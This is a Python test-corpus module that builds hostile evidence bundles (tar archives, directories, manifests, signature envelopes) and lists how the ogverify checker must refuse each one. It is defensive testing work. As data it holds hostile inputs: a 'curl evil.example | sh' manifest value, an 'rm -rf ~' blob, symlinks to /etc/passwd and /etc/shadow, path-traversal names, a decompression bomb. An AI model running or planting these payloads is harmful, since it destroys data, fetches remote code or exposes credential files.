"""The hostile-bundle corpus: every case an auditor may be handed by the party they audit.

Each ``Case`` builds one hostile bundle from a small, validly signed base bundle (the attacker is
the producer: their key is the one the auditor trusts, so signatures hold unless the case is about
them) and says how ``ogverify check`` must refuse it: the exit code (1: the evidence does not hold,
3: cannot verify) and the text its one-line reason must contain.

Deterministic: the signing key is derived from a fixed seed, models and tensors from fixed seeds.
(The environment fingerprint in the manifest is this machine's, as ``pack`` records it.)

Run as a script to write the corpus to a folder, with ``index.json`` listing every case::

    python -m tests.hostile.corpus OUT_DIR
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import io
import json
import os
import pickle
import shutil
import sys
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import blake3
import numpy as np
import zstandard
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from onnx import TensorProto, helper, numpy_helper

from ogverify.evidence.bundle import DEFAULT_LIMITS
from ogverify.evidence.manifest import Manifest
from ogverify.evidence.signing import PAYLOAD_TYPE, build_statement, keyid_of, load_private_key, pae, sign_manifest
from ogverify.packing.pack import pack
from tests.bundle_helpers import Members, blob_name, canonical, npy_bytes, read_members, write_members
from tests.fixtures import models

SEED = b"ogverify hostile corpus v1"
# What a hostile bundle would like to create, if anything ever wrote a member by its own name.
CANARY = "ogverify-hostile-canary"


@dataclass(frozen=True)
class Base:
    """The honest starting point: a signed MLP bundle in both forms, and the key material."""

    root: Path
    key: Path
    pub: Path
    keyid: str
    intruder_key: Path
    model: Path
    x: np.ndarray
    members: Members  # of the signed bundle (same in both forms)
    other_envelope: bytes  # the same key's envelope over another bundle's manifest

    def manifest(self) -> dict[str, Any]:
        loaded: dict[str, Any] = json.loads(self.members["manifest.json"])
        return loaded


@dataclass(frozen=True)
class Case:
    """One hostile bundle and how ``check`` must refuse it.

    Attributes:
        name: unique, also the bundle's file name.
        group: tar, directory, blobs, manifest, signatures, model or tensors.
        exit_code: 1 (evidence does not hold) or 3 (cannot verify).
        reason: text the report's headline must contain; ``{bundle}`` stands for the bundle's path.
        build: writes the bundle at the path given (``.ogb`` suffix: a tar file, else a directory).
        form: "file" (``NAME.ogb``) or "directory".
        extract_refused: ``extract`` must refuse this bundle with the same reason (it reads every
            member and blob, but neither signatures nor the model).
    """

    name: str
    group: str
    exit_code: int
    reason: str
    build: Callable[[Base, Path], None]
    form: str = "file"
    extract_refused: bool = False

    def path_in(self, folder: Path) -> Path:
        return folder / (f"{self.name}.ogb" if self.form == "file" else self.name)

    def make(self, base: Base, folder: Path) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        path = self.path_in(folder)
        self.build(base, path)
        return path

    def expected_reason(self, bundle: Path) -> str:
        return self.reason.replace("{bundle}", str(bundle))


# --- the base ----------------------------------------------------------------------------------


def _write_key(path: Path, key: Ed25519PrivateKey) -> None:
    path.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                       serialization.NoEncryption()))
    path.chmod(0o600)
    path.with_name(path.name + ".pub").write_bytes(key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))


def _seeded_key(label: bytes) -> Ed25519PrivateKey:
    return Ed25519PrivateKey.from_private_bytes(hashlib.sha256(SEED + label).digest())


def build_base(root: Path) -> Base:
    """Write the key pair, model and honest signed bundle the cases start from."""
    root.mkdir(parents=True, exist_ok=True)
    key = _seeded_key(b"signer")
    _write_key(root / "signer.key", key)
    _write_key(root / "intruder.key", _seeded_key(b"intruder"))
    model = models.save(models.mlp(), root / "mlp.onnx")
    x = np.random.default_rng(1).standard_normal((4, 16)).astype(np.float32)
    honest = pack(model, root / "honest.ogb", inputs={"x": x}, sign_keys=[root / "signer.key"], overwrite=True)
    other = pack(model, root / "other.ogb", inputs={"x": x + 1}, sign_keys=[root / "signer.key"], overwrite=True)
    keyid = keyid_of(key.public_key())
    return Base(
        root=root, key=root / "signer.key", pub=root / "signer.key.pub", keyid=keyid,
        intruder_key=root / "intruder.key", model=model, x=x,
        members=read_members(honest.path),
        other_envelope=read_members(other.path)[f"signatures/{keyid}.dsse.json"],
    )


# --- building blocks ---------------------------------------------------------------------------


def _write(path: Path, members: Members) -> None:
    write_members(path, members)


def _resign(base: Base, members: Members, key: Path | None = None) -> None:
    """Replace every envelope by one signature of the current manifest (the attacker's own key)."""
    for name in [n for n in members if n.startswith("signatures/")]:
        del members[name]
    raw = members["manifest.json"]
    keyid, envelope = sign_manifest(Manifest.from_bytes(raw), raw, load_private_key(key or base.key))
    members[f"signatures/{keyid}.dsse.json"] = envelope


def _edit_manifest(base: Base, change: Callable[[dict[str, Any]], None], *, resign: bool = True) -> Members:
    members = dict(base.members)
    manifest = base.manifest()
    change(manifest)
    members["manifest.json"] = canonical(manifest)
    if resign:
        _resign(base, members)
    return members


def _entry(manifest: dict[str, Any], section: str, name: str) -> dict[str, Any]:
    if section == "model":
        model: dict[str, Any] = manifest["model"]
        return model
    found: dict[str, Any] = next(t for t in manifest[section] if t["name"] == name)
    return found


def _replace_blob(base: Base, section: str, name: str, content: bytes, *, stored: bytes | None = None,
                  encoding: str = "identity", **fields: Any) -> Members:
    """Swap one artifact's blob and update its manifest entry so that integrity holds; re-sign."""
    members = dict(base.members)
    manifest = base.manifest()
    entry = _entry(manifest, section, name)
    del members[blob_name(entry)]
    entry["digest"] = {"blake3": blake3.blake3(content).hexdigest()}
    entry["size"] = len(content)
    entry["encoding"] = encoding
    stored = content if stored is None else stored
    entry["stored_size"] = len(stored)
    entry.update(fields)
    members[blob_name(entry)] = stored
    members["manifest.json"] = canonical(manifest)
    _resign(base, members)
    return members


def _zstd(data: bytes) -> bytes:
    return bytes(zstandard.ZstdCompressor(level=3, write_checksum=False).compress(data))


def _input_name(base: Base) -> str:
    return f"blobs/blake3/{base.manifest()['inputs'][0]['digest']['blake3']}"


# tar building: headers written by tarfile, or by hand where tarfile would refuse.


def _tar_bytes(entries: list[tuple[tarfile.TarInfo, bytes]], *, end: bool = True) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in entries:
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    raw = buffer.getvalue()
    if not end:
        raw = _strip_end(raw)
    return raw


def _strip_end(raw: bytes) -> bytes:
    """The archive without its end-of-archive zero blocks and record padding."""
    return raw.rstrip(b"\0").ljust(-(-len(raw.rstrip(b"\0")) // 512) * 512, b"\0")


def _info(name: str, size: int = 0, kind: bytes = tarfile.REGTYPE, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.size, info.mtime, info.mode, info.type, info.linkname = size, 0, 0o644, kind, linkname
    return info


def _honest_entries(base: Base, skip: tuple[str, ...] = ()) -> list[tuple[tarfile.TarInfo, bytes]]:
    return [(_info(name, len(data)), data) for name, data in sorted(base.members.items()) if name not in skip]


def _tar_with(extra: list[tuple[tarfile.TarInfo, bytes]], *, first: bool = False) -> Callable[[Base, Path], None]:
    def build(base: Base, path: Path) -> None:
        entries = _honest_entries(base)
        path.write_bytes(_tar_bytes([*extra, *entries] if first else [*entries, *extra]))

    return build


def _ustar_header(name: str, size_field: bytes, kind: bytes = tarfile.REGTYPE) -> bytes:
    """A hand-made ustar header: ``size_field`` is the raw 12-byte size field, checksum fixed up."""
    header = bytearray(_info(name).tobuf(format=tarfile.USTAR_FORMAT))
    header[124:136] = size_field
    header[156:157] = kind
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header)


def _honest_tar(base: Base) -> bytes:
    return _tar_bytes(_honest_entries(base))


# --- tar cases ---------------------------------------------------------------------------------


def _tar_truncated_in_data(base: Base, path: Path) -> None:
    raw = _honest_tar(base)
    largest = max(base.members, key=lambda n: len(base.members[n]))
    data_start = raw.index(largest.encode()) // 512 * 512 + 512
    path.write_bytes(raw[: data_start + 100])  # cut 100 bytes into the largest member's data


def _tar_truncated_in_header(base: Base, path: Path) -> None:
    path.write_bytes(_strip_end(_honest_tar(base)) + _info(CANARY).tobuf(format=tarfile.USTAR_FORMAT)[:300])


def _tar_without_end(base: Base, path: Path) -> None:
    path.write_bytes(_strip_end(_honest_tar(base)))


def _tar_trailing_garbage(base: Base, path: Path) -> None:
    path.write_bytes(_honest_tar(base) + b"#!/bin/sh\necho appended after the end of the archive\n")


def _tar_garbage_instead_of_end(base: Base, path: Path) -> None:
    path.write_bytes(_strip_end(_honest_tar(base)) + b"\x7fELF" + b"\x01" * 2044)


def _tar_many_members(base: Base, path: Path) -> None:
    raw = bytearray(_strip_end(_honest_tar(base)))
    for index in range(DEFAULT_LIMITS.max_members + 1):
        raw += _info(f"blobs/blake3/{index:064x}").tobuf(format=tarfile.USTAR_FORMAT)
    path.write_bytes(bytes(raw) + b"\0" * 1024)


def _tar_duplicate(base: Base, path: Path) -> None:
    forged = canonical({**base.manifest(), "annotations": {"verdict": "trust me"}})
    entries = _honest_entries(base)
    path.write_bytes(_tar_bytes([*entries, (_info("manifest.json", len(forged)), forged)]))


def _tar_huge_pax_header(base: Base, path: Path) -> None:
    header = _ustar_header("PaxHeaders/huge", b"%011o\0" % ((8 << 30) - 1), tarfile.XHDTYPE)
    path.write_bytes(header + b"\0" * 1024)


def _tar_huge_gnu_longname(base: Base, path: Path) -> None:
    header = _ustar_header("././@LongLink", b"%011o\0" % (1 << 30), tarfile.GNUTYPE_LONGNAME)
    path.write_bytes(_strip_end(_honest_tar(base)) + header + b"\0" * 1024)


def _tar_pax_chain(base: Base, path: Path) -> None:
    record = b"17 comment=hello\n"
    block = _ustar_header("PaxHeaders/c", b"%011o\0" % len(record), tarfile.XHDTYPE) + record.ljust(512, b"\0")
    path.write_bytes(block * 5000 + _honest_tar(base))


def _tar_negative_size(base: Base, path: Path) -> None:
    header = _ustar_header("manifest.json", b"\xff" * 12)
    path.write_bytes(header + _honest_tar(base))


def _tar_pax_size_override(base: Base, path: Path) -> None:
    info = _info("manifest.json", len(base.members["manifest.json"]))
    info.pax_headers = {"size": str(10**15)}
    entries = [(info, base.members["manifest.json"]), *_honest_entries(base, skip=("manifest.json",))]
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for entry, data in entries:
            tar.addfile(entry, io.BytesIO(data))
    path.write_bytes(buffer.getvalue())


def _tar_gzipped(base: Base, path: Path) -> None:
    import gzip

    path.write_bytes(gzip.compress(_honest_tar(base), mtime=0))


def _tar_case_collision(base: Base, path: Path) -> None:
    upper = base.members["manifest.json"]
    path.write_bytes(_tar_bytes([*_honest_entries(base), (_info("MANIFEST.json", len(upper)), upper)]))


def _tar_upper_hex_blob(base: Base, path: Path) -> None:
    name = _input_name(base)
    data = base.members[name]
    path.write_bytes(_tar_bytes([*_honest_entries(base), (_info(name.upper().replace("BLOBS/BLAKE3", "blobs/blake3"),
                                                                len(data)), data)]))


def _write_bytes(data: bytes) -> Callable[[Base, Path], None]:
    def build(base: Base, path: Path) -> None:
        path.write_bytes(data)

    return build


TAR_CASES = [
    Case("tar-absolute-path", "tar", 3, f"bundle holds an unexpected member '/tmp/{CANARY}'",
         _tar_with([(_info(f"/tmp/{CANARY}", 5), b"owned")]), extract_refused=True),
    Case("tar-dotdot-traversal", "tar", 3, f"bundle holds an unexpected member '../../{CANARY}'",
         _tar_with([(_info(f"../../{CANARY}", 5), b"owned")]), extract_refused=True),
    Case("tar-dotdot-inside-blobs", "tar", 3, "bundle holds an unexpected member 'blobs/blake3/../../manifest.json'",
         _tar_with([(_info("blobs/blake3/../../manifest.json", 2), b"{}")]), extract_refused=True),
    Case("tar-symlink-member", "tar", 3, "bundle member 'manifest.json' is not a regular file",
         _tar_with([(_info("manifest.json", kind=tarfile.SYMTYPE, linkname="/etc/passwd"), b"")], first=True),
         extract_refused=True),
    Case("tar-symlink-blob", "tar", 3, f"bundle member 'blobs/blake3/{'ab' * 32}' is not a regular file",
         _tar_with([(_info(f"blobs/blake3/{'ab' * 32}", kind=tarfile.SYMTYPE, linkname="../../../../etc"), b"")]),
         extract_refused=True),
    Case("tar-hardlink-member", "tar", 3, "bundle member 'manifest.json' is not a regular file",
         _tar_with([(_info("manifest.json", kind=tarfile.LNKTYPE, linkname="/etc/shadow"), b"")], first=True),
         extract_refused=True),
    Case("tar-char-device", "tar", 3, f"bundle member 'signatures/{'0' * 64}.dsse.json' is not a regular file",
         _tar_with([(_info(f"signatures/{'0' * 64}.dsse.json", kind=tarfile.CHRTYPE), b"")]), extract_refused=True),
    Case("tar-fifo", "tar", 3, "bundle member 'ogverify-bundle.json' is not a regular file",
         _tar_with([(_info("ogverify-bundle.json", kind=tarfile.FIFOTYPE), b"")], first=True), extract_refused=True),
    Case("tar-directory-member", "tar", 3, "bundle member 'blobs' is not a regular file",
         _tar_with([(_info("blobs/", kind=tarfile.DIRTYPE), b"")], first=True), extract_refused=True),
    Case("tar-duplicate-manifest", "tar", 3, "bundle member 'manifest.json' appears twice", _tar_duplicate,
         extract_refused=True),
    Case("tar-case-colliding-name", "tar", 3, "bundle holds an unexpected member 'MANIFEST.json'",
         _tar_case_collision, extract_refused=True),
    Case("tar-upper-case-blob-name", "tar", 3, "bundle holds an unexpected member 'blobs/blake3/",
         _tar_upper_hex_blob, extract_refused=True),
    Case("tar-huge-member-count", "tar", 3, f"bundle has more than {DEFAULT_LIMITS.max_members} members",
         _tar_many_members, extract_refused=True),
    Case("tar-truncated-in-data", "tar", 3, "is truncated", _tar_truncated_in_data, extract_refused=True),
    Case("tar-truncated-in-header", "tar", 3, "{bundle}: tar archive is truncated (cut off inside a header)",
         _tar_truncated_in_header, extract_refused=True),
    Case("tar-no-end-marker", "tar", 3, "{bundle}: tar archive is truncated (no end-of-archive marker)",
         _tar_without_end, extract_refused=True),
    Case("tar-trailing-garbage", "tar", 3, "{bundle}: unexpected data after the end of the tar archive",
         _tar_trailing_garbage, extract_refused=True),
    Case("tar-garbage-after-last-member", "tar", 3, "{bundle}: damaged tar archive (data at offset",
         _tar_garbage_instead_of_end, extract_refused=True),
    Case("tar-not-a-tar", "tar", 3, "{bundle} is not a bundle: not a tar archive or a bundle directory",
         _write_bytes(b"PK\x03\x04 this is a zip file, not a tar" * 40), extract_refused=True),
    Case("tar-empty-file", "tar", 3, "{bundle} is not a bundle: not a tar archive or a bundle directory",
         _write_bytes(b""), extract_refused=True),
    Case("tar-gzip-compressed", "tar", 3, "{bundle} is not a bundle: not a tar archive or a bundle directory",
         _tar_gzipped, extract_refused=True),
    Case("tar-huge-pax-header", "tar", 3, "tar header claims 8589934592 bytes, over the 65536-byte limit",
         _tar_huge_pax_header, extract_refused=True),
    Case("tar-huge-gnu-longname", "tar", 3, "tar header claims 1073741824 bytes, over the 65536-byte limit",
         _tar_huge_gnu_longname, extract_refused=True),
    Case("tar-pax-header-chain", "tar", 3, "{bundle}: damaged tar archive (RecursionError)", _tar_pax_chain,
         extract_refused=True),
    Case("tar-negative-size", "tar", 3, "bundle member 'manifest.json' has an invalid size", _tar_negative_size,
         extract_refused=True),
    Case("tar-pax-size-beyond-file", "tar", 3, "bundle member 'manifest.json' is truncated", _tar_pax_size_override,
         extract_refused=True),
]


# --- directory-form cases ----------------------------------------------------------------------


def _dir_with(change: Callable[[Base, Path], None]) -> Callable[[Base, Path], None]:
    def build(base: Base, path: Path) -> None:
        write_members(path, dict(base.members))
        change(base, path)

    return build


def _dir_symlink_blob(base: Base, path: Path) -> None:
    blob = path / _input_name(base)
    blob.unlink()
    blob.symlink_to("/etc/passwd")


def _dir_fifo(base: Base, path: Path) -> None:
    os.mkfifo(path / "signatures" / f"{'f' * 64}.dsse.json")


def _dir_unexpected_directory(base: Base, path: Path) -> None:
    (path / "blobs" / "evil").mkdir()


def _dir_symlinked_directory(base: Base, path: Path) -> None:
    shutil.rmtree(path / "signatures")
    (path / "signatures").symlink_to("/etc")


def _dir_sparse_manifest(base: Base, path: Path) -> None:
    with (path / "manifest.json").open("r+b") as handle:
        handle.truncate(DEFAULT_LIMITS.max_manifest_bytes + 1)


def _dir_sparse_envelope(base: Base, path: Path) -> None:
    with (path / f"signatures/{base.keyid}.dsse.json").open("r+b") as handle:
        handle.truncate(DEFAULT_LIMITS.max_signature_bytes + 1)


def _dir_many_envelopes(base: Base, path: Path) -> None:
    envelope = base.members[f"signatures/{base.keyid}.dsse.json"]
    for index in range(DEFAULT_LIMITS.max_signatures):
        (path / "signatures" / f"{index:064x}.dsse.json").write_bytes(envelope)


DIRECTORY_CASES = [
    Case("dir-symlinked-blob", "directory", 3, "is not a regular file", _dir_with(_dir_symlink_blob),
         form="directory", extract_refused=True),
    Case("dir-fifo-member", "directory", 3, f"bundle member 'signatures/{'f' * 64}.dsse.json' is not a regular file",
         _dir_with(_dir_fifo), form="directory", extract_refused=True),
    Case("dir-unexpected-directory", "directory", 3, "bundle holds an unexpected directory 'blobs/evil'",
         _dir_with(_dir_unexpected_directory), form="directory", extract_refused=True),
    Case("dir-symlinked-directory", "directory", 3, "bundle member 'signatures' is not a regular file",
         _dir_with(_dir_symlinked_directory), form="directory", extract_refused=True),
    Case("dir-oversized-manifest", "directory", 3,
         f"bundle member 'manifest.json' is {DEFAULT_LIMITS.max_manifest_bytes + 1} bytes, over the "
         f"{DEFAULT_LIMITS.max_manifest_bytes}-byte limit", _dir_with(_dir_sparse_manifest), form="directory",
         extract_refused=True),
    Case("dir-oversized-envelope", "directory", 3, f"is {DEFAULT_LIMITS.max_signature_bytes + 1} bytes, over the "
         f"{DEFAULT_LIMITS.max_signature_bytes}-byte limit", _dir_with(_dir_sparse_envelope), form="directory",
         extract_refused=True),
    Case("dir-too-many-envelopes", "directory", 3,
         f"bundle holds {DEFAULT_LIMITS.max_signatures + 1} signature envelopes, over the max_signatures limit "
         f"({DEFAULT_LIMITS.max_signatures})", _dir_with(_dir_many_envelopes), form="directory",
         extract_refused=True),
]


# --- blob cases --------------------------------------------------------------------------------


def _members_build(make: Callable[[Base], Members]) -> Callable[[Base, Path], None]:
    def build(base: Base, path: Path) -> None:
        _write(path, make(base))

    return build


def _identity_input(base: Base) -> tuple[Members, dict[str, Any], str]:
    """The base with input x stored uncompressed (re-signed): sizes in messages are then fixed numbers."""
    members = _replace_blob(base, "inputs", "x", npy_bytes(base.x))
    manifest: dict[str, Any] = json.loads(members["manifest.json"])
    return members, manifest, blob_name(manifest["inputs"][0])


def _blob_flipped(base: Base) -> Members:
    members, _, name = _identity_input(base)
    members[name] = members[name][:-1] + bytes([members[name][-1] ^ 1])
    return members


def _blob_missing(base: Base) -> Members:
    members, _, name = _identity_input(base)
    del members[name]
    return members


def _blob_extra(base: Base) -> Members:
    members = dict(base.members)
    payload = b"#!/bin/sh\nrm -rf ~\n"
    members[f"blobs/blake3/{blake3.blake3(payload).hexdigest()}"] = payload
    return members


def _blob_size_declared_wrong(base: Base) -> Members:
    members, manifest, _ = _identity_input(base)
    manifest["inputs"][0]["size"] += 1
    members["manifest.json"] = canonical(manifest)
    _resign(base, members)
    return members


def _blob_stored_size_wrong(base: Base) -> Members:
    members, _, name = _identity_input(base)
    members[name] = members[name][:-7]
    return members


def _zstd_bomb(base: Base) -> Members:
    """A 1.3 KiB blob that inflates to 64 MiB, declared as the honest output's size and digest."""
    members = dict(base.members)
    manifest = base.manifest()
    entry = manifest["outputs"][0]
    bomb = _zstd(b"\0" * (64 << 20))
    members[blob_name(entry)] = bomb
    entry["encoding"], entry["stored_size"] = "zstd", len(bomb)
    members["manifest.json"] = canonical(manifest)
    _resign(base, members)
    return members


def _zstd_short(base: Base) -> Members:
    content = npy_bytes(base.x)
    return _replace_blob(base, "inputs", "x", content, stored=_zstd(content[:-16]), encoding="zstd")


def _zstd_corrupt(base: Base) -> Members:
    content = npy_bytes(base.x)
    frame = bytearray(_zstd(content))
    frame[len(frame) // 2 :] = b"\xff" * (len(frame) - len(frame) // 2)
    return _replace_blob(base, "inputs", "x", content, stored=bytes(frame), encoding="zstd")


def _zstd_huge_window(base: Base) -> Members:
    """A valid frame whose header asks for a 2 GiB window: the decoder must refuse, not allocate it."""
    content = npy_bytes(base.x)
    block_header = (1 | (0 << 1) | (len(content) << 3)).to_bytes(3, "little")  # last block, raw
    frame = b"\x28\xb5\x2f\xfd" + b"\x00" + bytes([21 << 3]) + block_header + content
    return _replace_blob(base, "inputs", "x", content, stored=frame, encoding="zstd")


def _declared_size(size: int, section: str = "model") -> Callable[[Base], Members]:
    def make(base: Base) -> Members:
        def change(manifest: dict[str, Any]) -> None:
            entry = manifest["model"] if section == "model" else manifest[section][0]
            entry["size"] = size

        return _edit_manifest(base, change)

    return make


def _declared_total(base: Base) -> Members:
    def change(manifest: dict[str, Any]) -> None:
        for index in range(5):
            manifest["model_files"].append({
                "name": f"shard{index}.bin", "media_type": "application/octet-stream",
                "digest": {"blake3": f"{index:064x}"}, "size": DEFAULT_LIMITS.max_blob_bytes,
                "encoding": "identity", "stored_size": 10,
            })

    return _edit_manifest(base, change)


def _model_file_over_folder(names: tuple[str, str]) -> Callable[[Base], Members]:
    """Two model files where one name is the other's folder ("w" beside "w/x"), both the model's blob."""
    def make(base: Base) -> Members:
        def change(manifest: dict[str, Any]) -> None:
            for name in names:
                manifest["model_files"].append({**manifest["model"], "name": name})

        return _edit_manifest(base, change)

    return make


TB = DEFAULT_LIMITS.max_blob_bytes
BLOB_CASES = [
    Case("blob-digest-mismatch", "blobs", 1, "input 'x': blake3 digest does not match the manifest (content changed)",
         _members_build(_blob_flipped), extract_refused=True),
    Case("blob-size-mismatch", "blobs", 1, "input 'x': size is 384 bytes, manifest says 385",
         _members_build(_blob_size_declared_wrong), form="directory", extract_refused=True),
    Case("blob-stored-size-mismatch", "blobs", 1, "input 'x': stored size is 377 bytes, manifest says 384",
         _members_build(_blob_stored_size_wrong), extract_refused=True),
    Case("blob-missing", "blobs", 1, "input 'x': blob is missing from the bundle", _members_build(_blob_missing),
         form="directory", extract_refused=True),
    Case("blob-extra-unreferenced", "blobs", 1, "is not named by the manifest (something was added)",
         _members_build(_blob_extra)),
    Case("blob-zstd-bomb", "blobs", 1, "claimed output 'y': decompresses to more than its declared 256 bytes",
         _members_build(_zstd_bomb), extract_refused=True),
    Case("blob-zstd-short", "blobs", 1, "input 'x': decompresses to 368 bytes, manifest says 384",
         _members_build(_zstd_short), extract_refused=True),
    Case("blob-zstd-corrupt-frame", "blobs", 1, "input 'x': corrupt zstd data", _members_build(_zstd_corrupt),
         extract_refused=True),
    Case("blob-zstd-huge-window", "blobs", 1, "input 'x': corrupt zstd data", _members_build(_zstd_huge_window),
         extract_refused=True),
    Case("blob-declared-1e15-bytes", "blobs", 3,
         f"model 'mlp.onnx' declares {10**15} bytes, over the max_blob_bytes limit ({TB})",
         _members_build(_declared_size(10**15)), extract_refused=True),
    Case("blob-declared-huge-tensor", "blobs", 3,
         f"input 'x' declares {TB + 1} bytes, over the max_blob_bytes limit ({TB})",
         _members_build(_declared_size(TB + 1, "inputs")), form="directory", extract_refused=True),
    Case("blob-declared-total", "blobs", 3, "bytes of artifacts, over the max_total_bytes limit",
         _members_build(_declared_total), extract_refused=True),
]


# --- manifest / JSON cases ---------------------------------------------------------------------


def _raw_manifest(edit: Callable[[bytes], bytes]) -> Callable[[Base], Members]:
    def make(base: Base) -> Members:
        members = dict(base.members)
        members["manifest.json"] = edit(members["manifest.json"])
        return members

    return make


def _annotation(value: bytes) -> Callable[[bytes], bytes]:
    return lambda raw: raw.replace(b'"annotations":{}', b'"annotations":{"note":' + value + b"}", 1)


def _pretty(raw: bytes) -> bytes:
    return json.dumps(json.loads(raw), indent=2).encode()


def _marker_version(base: Base) -> Members:
    members = dict(base.members)
    members["ogverify-bundle.json"] = canonical({"format": "ogverify-bundle", "version": 2})
    return members


def _no_marker(base: Base) -> Members:
    members = dict(base.members)
    del members["ogverify-bundle.json"]
    del members["manifest.json"]
    return members


def _set(path: tuple[str | int, ...], value: Any) -> Callable[[Base], Members]:
    def make(base: Base) -> Members:
        def change(manifest: dict[str, Any]) -> None:
            target: Any = manifest
            for key in path[:-1]:
                target = target[key]
            target[path[-1]] = value

        return _edit_manifest(base, change, resign=False)

    return make


MANIFEST_CASES = [
    Case("json-duplicate-keys", "manifest", 3, "manifest.json: duplicate JSON key 'annotations'",
         _members_build(_raw_manifest(lambda raw: b'{"annotations":{"signed":"no"},' + raw[1:])),
         extract_refused=True),
    Case("json-nan-literal", "manifest", 3, "manifest.json: JSON literal NaN is not allowed",
         _members_build(_raw_manifest(_annotation(b"NaN"))), extract_refused=True),
    Case("json-infinity-literal", "manifest", 3, "manifest.json: JSON literal -Infinity is not allowed",
         _members_build(_raw_manifest(_annotation(b"-Infinity"))), form="directory", extract_refused=True),
    Case("json-overflowing-number", "manifest", 3, "manifest.json: JSON number 1e999 is out of range",
         _members_build(_raw_manifest(_annotation(b"1e999"))), extract_refused=True),
    Case("json-huge-integer", "manifest", 3, "manifest.json is not valid JSON",
         _members_build(_raw_manifest(_annotation(b"9" * 5000))), extract_refused=True),
    Case("json-deep-nesting", "manifest", 3, "manifest.json is nested deeper than 64 levels",
         _members_build(_raw_manifest(_annotation(b"[" * 100_000 + b"]" * 100_000))), extract_refused=True),
    Case("json-not-utf8", "manifest", 3, "manifest.json is not UTF-8 text",
         _members_build(_raw_manifest(_annotation(b'"\xff\xfe"'))), extract_refused=True),
    Case("json-truncated", "manifest", 3, "manifest.json is not valid JSON",
         _members_build(_raw_manifest(lambda raw: raw[: len(raw) // 2])), extract_refused=True),
    Case("json-top-level-array", "manifest", 3, "manifest.json does not match its schema at (top level)",
         _members_build(_raw_manifest(lambda raw: b"[" + raw + b"]")), extract_refused=True),
    Case("manifest-wrong-type", "manifest", 3, "manifest.json does not match its schema at inputs/0/size",
         _members_build(_set(("inputs", 0, "size"), "384")), extract_refused=True),
    Case("manifest-negative-size", "manifest", 3, "manifest.json does not match its schema at model/size",
         _members_build(_set(("model", "size"), -1)), extract_refused=True),
    Case("manifest-unknown-format-version", "manifest", 3,
         "manifest format version 2 is newer than this ogverify supports (1); this bundle needs a newer ogverify",
         _members_build(_set(("format_version",), 2)), extract_refused=True),
    Case("manifest-unknown-field", "manifest", 3, "manifest.json does not match its schema at (top level)",
         _members_build(_set(("run_after_check",), "curl evil.example | sh")), extract_refused=True),
    Case("manifest-non-canonical", "manifest", 3,
         "manifest.json is not canonical JSON (RFC 8785); it was not written by a packer",
         _members_build(_raw_manifest(_pretty)), extract_refused=True),
    Case("manifest-blob-path-escapes", "manifest", 3,
         "manifest.json does not match its schema at inputs/0/digest/blake3",
         _members_build(_set(("inputs", 0, "digest"), {"blake3": "../../../../../etc/passwd"})),
         extract_refused=True),
    Case("manifest-model-name-escapes", "manifest", 3, "manifest.json does not match its schema at model/name",
         _members_build(_set(("model", "name"), "../../evil.onnx")), extract_refused=True),
    Case("manifest-model-file-absolute", "manifest", 3, "manifest.json does not match its schema at model/name",
         _members_build(_set(("model", "name"), "/etc/cron.d/evil")), extract_refused=True),
    Case("marker-unknown-version", "manifest", 3,
         "bundle format version 2 is not supported; this bundle needs a newer ogverify",
         _members_build(_marker_version), extract_refused=True),
    Case("marker-and-manifest-missing", "manifest", 3,
         "{bundle} is not an ogverify bundle (no ogverify-bundle.json / manifest.json)",
         _members_build(_no_marker), extract_refused=True),
]


# --- signature cases ---------------------------------------------------------------------------


def _envelope(base: Base, members: Members) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(members[f"signatures/{base.keyid}.dsse.json"])
    return loaded


def _edit_envelope(change: Callable[[Base, dict[str, Any]], None]) -> Callable[[Base], Members]:
    def make(base: Base) -> Members:
        members = dict(base.members)
        envelope = _envelope(base, members)
        change(base, envelope)
        members[f"signatures/{base.keyid}.dsse.json"] = canonical(envelope)
        return members

    return make


def _signed_envelope(base: Base, payload: bytes, *, payload_type: str = PAYLOAD_TYPE) -> dict[str, Any]:
    key = load_private_key(base.key)
    signature = key.sign(pae(payload_type, payload))
    return {"payloadType": payload_type, "payload": base64.b64encode(payload).decode(),
            "signatures": [{"keyid": base.keyid, "sig": base64.b64encode(signature).decode()}]}


def _manifest_changed_after_signing(base: Base) -> Members:
    def change(manifest: dict[str, Any]) -> None:
        manifest["annotations"]["note"] = "approved by the auditor"

    return _edit_manifest(base, change, resign=False)


def _replayed_envelope(base: Base) -> Members:
    members = dict(base.members)
    members[f"signatures/{base.keyid}.dsse.json"] = base.other_envelope
    return members


def _untrusted_signer(base: Base) -> Members:
    members = dict(base.members)
    _resign(base, members, key=base.intruder_key)
    return members


def _wrong_payload_type(base: Base) -> Members:
    members = dict(base.members)
    raw = members["manifest.json"]
    statement = build_statement(Manifest.from_bytes(raw), raw, blob_subjects=False)
    envelope = _signed_envelope(base, canonical(statement), payload_type="text/plain")
    members[f"signatures/{base.keyid}.dsse.json"] = canonical(envelope)
    return members


def _statement(change: Callable[[dict[str, Any]], None]) -> Callable[[Base], Members]:
    """A statement edited by ``change``, then validly signed by the trusted key."""

    def make(base: Base) -> Members:
        members = dict(base.members)
        raw = members["manifest.json"]
        statement = build_statement(Manifest.from_bytes(raw), raw, blob_subjects=False)
        change(statement)
        members[f"signatures/{base.keyid}.dsse.json"] = canonical(_signed_envelope(base, canonical(statement)))
        return members

    return make


def _other_subject(statement: dict[str, Any]) -> None:
    statement["subject"] = [{"name": "manifest.json", "digest": {"sha256": hashlib.sha256(b"another").hexdigest()}}]


def _other_predicate_type(statement: dict[str, Any]) -> None:
    statement["predicateType"] = "https://slsa.dev/provenance/v1"


